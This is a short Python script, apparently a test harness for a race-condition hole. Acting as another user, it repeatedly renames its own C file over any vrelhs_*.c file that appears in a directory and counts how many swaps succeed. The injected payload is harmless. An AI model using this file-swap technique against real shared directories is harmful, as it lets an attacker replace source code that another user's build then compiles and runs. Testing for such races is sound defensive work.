"""rename-attacker.py DIR: as another user, renames a C file of its own over every vrelhs_*.c that
appears in DIR, until DIR/stop exists. Prints how many renames took."""

import os
import sys

folder = sys.argv[1]
evil = os.path.join(folder, "evil.%d" % os.getpid())
taken = 0
while not os.path.exists(os.path.join(folder, "stop")):
    for name in os.listdir(folder):
        if name.startswith("vrelhs_") and name.endswith(".c"):
            with open(evil, "w") as out:
                out.write('int main(void) { return 66; }\n')
            try:
                os.rename(evil, os.path.join(folder, name))
                taken += 1
            except OSError:
                pass
print("renames that took:", taken)
